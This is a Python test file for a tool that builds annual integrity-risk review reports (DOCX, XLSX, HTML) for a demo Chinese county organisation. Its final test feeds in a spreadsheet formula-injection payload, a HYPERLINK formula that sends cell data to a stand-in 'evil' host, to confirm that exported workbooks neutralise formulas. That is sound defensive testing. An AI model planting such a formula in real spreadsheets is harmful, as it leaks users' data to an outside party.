"""The annual review on the demo organisation: DOCX, XLSX and HTML carry the sections,
the figures of the canned queries, the Chinese text and a chart that renders it."""

from __future__ import annotations

import datetime as dt
import io
import re
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pytest
from docx import Document
from docx.enum.section import WD_ORIENT
from servers import cli

from lianfang.graph.falkor_store import EmbeddedFalkorStore
from lianfang.queries.runner import run
from lianfang.queries.spec import library
from lianfang.reports import chart, docx_report, html_report, official, review, xlsx_report
from lianfang.reports.chart import cjk_font, distribution_png, distribution_svg
from lianfang.reports.official import Issue
from lianfang.reports.punctuation import full_width

AS_OF = dt.date(2026, 1, 31)
SECTIONS = [s for s in library().values() if s.id != "unit-risk-profile"]


@pytest.fixture(scope="module")
def built(demo_dir: Path) -> review.Review:
    with EmbeddedFalkorStore(demo_dir, "lianfang") as store:
        made = review.build(store, AS_OF)
        results = {spec.id: run(store, spec.id, {"as_of": AS_OF}) for spec in SECTIONS}
        made.expected = {k: r.ratio() for k, r in results.items()}  # type: ignore[attr-defined]
        made.expected_zh = {k: r.ratio_zh() for k, r in results.items()}  # type: ignore[attr-defined]
    return made


def test_the_review_holds_every_query_in_severity_order(built: review.Review) -> None:
    order = [("high", "medium", "low").index(s.spec.severity) for s in built.sections]
    assert order == sorted(order) and len(built.sections) == len(SECTIONS)
    assert {s.spec.id: s.ratio for s in built.sections} == built.expected
    assert built.profile[0]["unit_id"] == "C01" and len(built.profile) == 15  # county + bureaus
    ungraded = int(built.expected["ungraded-risks"].split(" of ")[0])  # type: ignore[attr-defined]
    assert ungraded > 0  # the distribution is by level: ungraded risks are listed apart
    assert (
        sum(sum(levels.values()) for levels in built.distribution.values()) + ungraded
        == built.headline["risks"]
    )


W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
HAN = re.compile(r"[\u4e00-\u9fff]")
HALF_WIDTH_NEAR_HAN = re.compile(r"[\u4e00-\u9fff][,;:()]|[,;:()][\u4e00-\u9fff]")


def test_docx_is_a_report_in_the_official_form(built: review.Review) -> None:
    issue = Issue("青山县纪委监委", "青纪发〔2026〕3号")
    document = Document(io.BytesIO(docx_report.write_docx(built, issue)))
    paragraphs = [p.text for p in document.paragraphs]
    text = "\n".join(paragraphs)
    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
    parts = ["一、总体情况", "二、风险点分布", "三、发现的问题及整改建议", "四、预警、整改与考核"]
    assert [h for h in headings if h in parts] == parts
    assert paragraphs[:3] == [
        "青山县纪委监委",
        "青纪发〔2026〕3号",
        f"青山县人民政府{AS_OF.year}年度廉政风险防控工作报告",
    ]
    assert "目  录" in paragraphs and "附件3：预警、整改与考核明细" in paragraphs
    for number, section in enumerate(built.numbered, start=1):
        title = f"{number}．{section.spec.title_zh}：{built.expected_zh[section.spec.id]}"  # type: ignore[attr-defined]
        assert title in headings, section.spec.id
        if section.rows:
            assert full_width(section.spec.remedy) in text
    assert review.summary_sentence(built) in text
    assert "（其中现行" in review.summary_sentence(built)  # the demo has repealed rules
    assert paragraphs[-1] != "" and "附件" in text
    assert len(document.inline_shapes) == 1  # the chart
    # Chinese prose in Chinese punctuation; no column headed by a field name.
    assert [p for p in paragraphs if HALF_WIDTH_NEAR_HAN.search(p)] == []
    for table in document.tables:
        assert all(HAN.search(c.text) for c in table.rows[0].cells), table.rows[0].cells[0].text
    profile = next(t for t in document.tables if t.rows[0].cells[0].text == "单位名称")
    assert profile.rows[1].cells[0].text == "青山县人民政府"
    # Page, language and fonts as GB/T 9704 sets them.
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert (round(section.top_margin.mm), round(section.left_margin.mm)) == (37, 28)
    assert any(s.orientation == WD_ORIENT.LANDSCAPE for s in document.sections)
    fonts = document.styles["Normal"].element.rPr.rFonts
    assert fonts.get(f"{W}eastAsia") == official.FANGSONG
    assert document.styles["Heading 1"].element.rPr.rFonts.get(f"{W}eastAsia") == official.HEITI
    lang = document.styles.element.find(f"{W}docDefaults").find(f".//{W}lang")
    assert lang.get(f"{W}eastAsia") == "zh-CN"
    assert "PAGE" in section.footer._element.xml and "PAGE" in section.even_page_footer._element.xml
    assert document.settings.odd_and_even_pages_header_footer


def test_the_documents_print_names_and_short_ids(built: review.Review) -> None:
    """A finding is listed by its short id, and the records it names by their names."""
    document = Document(io.BytesIO(docx_report.write_docx(built)))
    duties = next(s for s in built.sections if s.spec.id == "incompatible-duties")
    first = duties.rows[0]
    cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
    assert duties.spec.finding_id(first) in cells
    assert first["power_a_name"] in cells and first["power_a"] not in cells
    html = html_report.render_html(built)
    assert duties.spec.finding_id(first) in html and 'id="contents"' in html
    assert "<th>power_a</th>" not in html and "<th>职权一</th>" in html


def test_xlsx_has_a_sheet_per_section_with_frozen_filtered_headers(built: review.Review) -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_report.write_xlsx(built)))
    assert book.sheetnames[:3] == ["封面", "单位概况", "风险分布"]
    assert len(book.sheetnames) == 3 + len(SECTIONS) + len(built.loop)
    assert book.sheetnames[-4:] == ["考核得分", "分级预警", "整改台账", "暂缓处理"]
    assert "排查廉政风险点" in book["封面"]["B6"].value
    for section in built.sections:
        sheet = book[section.spec.title_zh[:28]]
        assert built.expected_zh[section.spec.id] in sheet["A3"].value  # type: ignore[attr-defined]
        header_row = sheet.freeze_panes and int(sheet.freeze_panes[1:]) - 1
        headings = [c.value for c in sheet[header_row]]
        assert headings == [
            "问题编号",
            *(section.spec.heading(c.name, "zh") for c in section.spec.columns),
        ]
        assert sheet.auto_filter.ref.startswith(f"A{header_row}:")
        assert sheet.max_row - header_row == len(section.rows)
        if section.rows:
            assert sheet.cell(header_row + 1, 1).value == section.spec.finding_id(section.rows[0])
    profile = book["单位概况"]
    assert profile.freeze_panes == "A2" and profile["B2"].value == "青山县人民政府"
    assert profile["A1"].value == "单位编号" and profile["B1"].value == "单位名称"
    widths = {profile.column_dimensions[c].width for c in "ABCDEF"}
    assert len(widths) > 1  # each column as wide as what it holds


def test_xlsx_draws_its_chart_natively(built: review.Review) -> None:
    """A chart Excel draws itself: a stacked bar chart over the distribution table."""
    with zipfile.ZipFile(io.BytesIO(xlsx_report.write_xlsx(built))) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 1
        xml = archive.read(charts[0]).decode("utf-8")
    assert "<barChart>" in xml and '<grouping val="stacked"/>' in xml
    rows = len(built.distribution) + 1  # the six categories, and the demo's unclassified
    assert "未分类" in built.distribution and rows == 8
    assert f"'风险分布'!$A$2:$A${rows}" in xml
    for level_column in "BCD":  # high, medium, low
        assert f"'风险分布'!${level_column}$2:${level_column}${rows}" in xml


def test_html_has_every_section_and_the_chart(built: review.Review) -> None:
    html = html_report.render_html(built)
    assert 'id="chart"' in html and "<svg" in html and "data:image/png" not in html
    assert "三重一大" in html.split('id="chart"')[1].split("</svg>")[0]
    for section in built.sections:
        assert f'id="section-{section.spec.id}"' in html
    assert "http://" not in html and "https://" not in html


def test_the_chart_draws_chinese_with_a_cjk_font() -> None:
    assert "CJK" in cjk_font().name or cjk_font().exists()
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        png = distribution_png({"岗位职责": {"high": 2, "medium": 1, "low": 0}}, "廉政风险点分布")
    assert png.startswith(b"\x89PNG")
    missing = [str(w.message) for w in caught if "missing from" in str(w.message)]
    assert missing == []  # a box would have been drawn for each


def test_report_for_one_unit_keeps_its_findings(demo_dir: Path) -> None:
    with EmbeddedFalkorStore(demo_dir, "lianfang") as store:
        scoped = review.build(store, AS_OF, unit="C01B02")
    assert scoped.profile[0]["unit_id"] == "C01B02"
    assert scoped.headline["risks"] == scoped.profile[0]["risks"]
    for section in scoped.sections:
        for row in section.rows:
            named = " ".join(str(v) for v in row.values())
            assert "C01B02" in named, (section.spec.id, row)


def test_report_command(demo_dir: Path, tmp_path: Path) -> None:
    for suffix in ("docx", "xlsx", "html"):
        out = tmp_path / f"review.{suffix}"
        result = cli(demo_dir, "report", "--as-of", "2026-01-31", "-o", str(out))
        assert result.returncode == 0, result.stderr
        assert out.stat().st_size > 10_000 and "排查廉政风险点" in result.stdout
    wrong = cli(demo_dir, "report", "-o", str(tmp_path / "review.pdf"))
    assert wrong.returncode == 2 and "--format" in wrong.stderr
    missing = cli(demo_dir, "report", "-o", str(tmp_path / "r.html"), "--unit", "NOPE")
    assert missing.returncode == 1 and "no unit 'NOPE'" in missing.stderr


def test_the_svg_chart_escapes_and_scales() -> None:
    svg = distribution_svg({"岗位职责": {"high": 4, "medium": 2, "low": 0}}, "<b>分布</b>")
    assert "<b>" not in svg and "&lt;b&gt;分布&lt;/b&gt;" in svg
    assert svg.count("<rect") == 2 + 3  # two bars, three legend keys
    assert ">6</text>" in svg  # the stack's total


@pytest.fixture
def no_cjk_font(monkeypatch: pytest.MonkeyPatch):
    """The process sees no font at all, as on a machine without fonts-noto-cjk."""
    from matplotlib import font_manager

    monkeypatch.setattr(font_manager, "findSystemFonts", lambda *a, **k: [])
    chart.cjk_font.cache_clear()
    yield
    chart.cjk_font.cache_clear()


def test_every_review_format_is_written_without_a_cjk_font(
    no_cjk_font, demo_dir: Path, tmp_path: Path
) -> None:
    from typer.testing import CliRunner

    from lianfang.cli.app import app

    with pytest.raises(chart.FontMissing):
        cjk_font()
    runner = CliRunner()
    for suffix in ("docx", "xlsx", "html"):
        out = tmp_path / f"r.{suffix}"
        args = ["--data-dir", str(demo_dir), "report", "--as-of", "2026-01-31", "-o", str(out)]
        result = runner.invoke(app, args)
        assert result.exit_code == 0, result.output
        assert out.stat().st_size > 10_000
        assert ("no CJK font" in result.output) is (suffix == "docx")
    document = Document(str(tmp_path / "r.docx"))
    assert len(document.inline_shapes) == 0  # no chart, and the table in its place
    assert any("缺少中文字体" in p.text for p in document.paragraphs)
    assert any(t.rows[0].cells[0].text == "类别" for t in document.tables)


def test_the_page_downloads_the_review_without_a_cjk_font(no_cjk_font, demo_dir: Path) -> None:
    from fastapi.testclient import TestClient
    from web import LOCAL

    from lianfang.api.main import create_app

    with (
        EmbeddedFalkorStore(demo_dir, "lianfang") as store,
        TestClient(create_app(store=store), base_url=LOCAL) as client,
    ):
        for fmt in ("docx", "xlsx", "html"):
            response = client.get(f"/api/reports/review.{fmt}", params={"as_of": "2026-01-31"})
            assert response.status_code == 200, (fmt, response.text[:200])
            assert len(response.content) > 10_000


def test_no_xlsx_the_product_writes_holds_a_formula(tmp_path: Path) -> None:
    """Register text and user input that look like formulas stay text in every workbook:
    the review (its cover too), the disclosure, a query export and the template."""
    from web import FORMULA, hostile_store

    from lianfang.ingest.template import write_template
    from lianfang.queries.exports import to_xlsx
    from lianfang.reports import disclosure

    leak = '=HYPERLINK("http://evil/leak?d="&A1,"点击")'
    with hostile_store(tmp_path / "data", tmp_path) as store:
        built = review.build(store, AS_OF)
        rows = disclosure.disclosure_rows(store)
        exported = run(store, "unmitigated-high-risks", {"as_of": AS_OF}).rows
    built.organisation, built.scope = leak, "+1+1"
    assert any(FORMULA in r["risk"] for r in rows)
    books = {
        "review": xlsx_report.write_xlsx(built),
        "disclosure": disclosure.write_xlsx(rows, leak),
        "query": to_xlsx(exported, list(exported[0]), "q"),
        "template": write_template(tmp_path / "t.xlsx").read_bytes(),
    }
    for name, data in books.items():
        book = openpyxl.load_workbook(io.BytesIO(data))
        formulas = [
            (sheet.title, cell.coordinate)
            for sheet in book.worksheets
            for line in sheet.iter_rows()
            for cell in line
            if cell.data_type == "f" or str(cell.value or "").startswith(("=", "+", "@", "-"))
        ]
        assert formulas == [], name
